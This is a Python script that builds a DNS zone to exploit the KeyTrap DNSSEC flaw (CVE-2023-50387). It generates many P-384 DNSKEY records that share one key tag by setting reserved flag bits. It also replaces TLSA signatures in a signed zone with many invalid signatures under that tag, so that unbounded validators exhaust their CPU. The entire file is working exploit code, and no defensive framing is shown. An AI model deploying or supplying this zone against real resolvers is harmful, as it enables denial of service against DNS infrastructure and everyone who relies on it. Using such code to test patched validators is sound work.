"""A zone made to cost its validators as much as it can: many keys with one key tag, many signatures that name that tag
(CVE-2023-50387, "KeyTrap"). Which key a signature is by, the tag alone says; so a validator without bounds tries each
signature with each key.

The keys are P-384's, the slowest curve that validators know, and points of it: the generator, twice the generator, and
so on, since a number that is no point is refused at once and costs nothing. A tag is a sum over the record's octets
(RFC 4034 appendix B), and reserved bits of the flags field are to be ignored by whoever reads it (section 2.1.1): so
one key in eight can be given any tag by its flags, and none has to be searched for.
"""

import base64
import hashlib
import re

ALGORITHM = 14  # ECDSAP384SHA384
P = 2**384 - 2**128 - 2**96 + 2**32 - 1
GENERATOR = (
    0xaa87ca22be8b05378eb1c71ef320ad746e1d3b628ba79b9859f741e082542a385502f25dbf55296c3a545e3872760ab7,
    0x3617de4a96262c6f5d9e98bf9292dc29f8f41dbd289a147ce9da3113b5f0b8c00a60b1ce1d7e819d7a431d7c90ea0e5f)
ZONE_KEY = 0x0100
FIXED = ZONE_KEY | 0x0080 | 0x0001  # and REVOKE and SEP, which stay as they are
TAG = 4711


def _add(one, other):
    """The sum of two points of P-384, neither of which is the other's negative."""
    (x1, y1), (x2, y2) = one, other
    if one == other:
        slope = 3 * (x1 * x1 - 1) * pow(2 * y1, -1, P)
    else:
        slope = (y2 - y1) * pow(x2 - x1, -1, P)
    x = (slope * slope - x1 - x2) % P
    return x, (slope * (x1 - x) - y1) % P


def tag(rdata):
    """The key tag of a DNSKEY record's data."""
    total = sum(octet << (8 if at % 2 == 0 else 0) for at, octet in enumerate(rdata))
    return (total + (total >> 16)) & 0xffff


def _flags(key):
    """Flags that give this key the tag, or None."""
    rest = sum(octet << (8 if at % 2 == 0 else 0) for at, octet in enumerate(bytes([3, ALGORITHM]) + key))
    for carry in range(-1, rest // 65536 + 2):
        flags = (TAG - rest - carry) & 0xffff
        if flags & FIXED == ZONE_KEY and tag(flags.to_bytes(2, "big") + bytes([3, ALGORITHM]) + key) == TAG:
            return flags
    return None


def keys(count):
    """The data of so many DNSKEY records of one tag, in presentation form."""
    found, point = [], GENERATOR
    while len(found) < count:
        key = b"".join(number.to_bytes(48, "big") for number in point)
        if flags := _flags(key):
            found.append(f"{flags} 3 {ALGORITHM} {base64.b64encode(key).decode()}")
        point = _add(point, GENERATOR)
    return found


def spring(text, signatures):
    """A signed zone's text, with so many wrong signatures by those keys in place of each over TLSA records. All else is
    as it should be, denials too: the zone answers for itself."""
    def replace(match):
        head, counts, signer = match.groups()
        return "\n".join(f"{head}{ALGORITHM} {counts} {TAG} {signer} {_signature(number)}"
                         for number in range(signatures))
    return re.sub(r"(?m)^(\S+\s\d+\sIN\sRRSIG\sTLSA )\d+ (\d+ \d+ \d+ \d+) \d+ (\S+) \S+\s*$", replace, text)


def _signature(number):
    """Two numbers of 384 bits below the curve's order, the same in each run."""
    parts = [hashlib.sha384(f"{part} {number}".encode()).digest()[1:] for part in "rs"]
    return base64.b64encode(b"".join(b"\1" + part for part in parts)).decode()
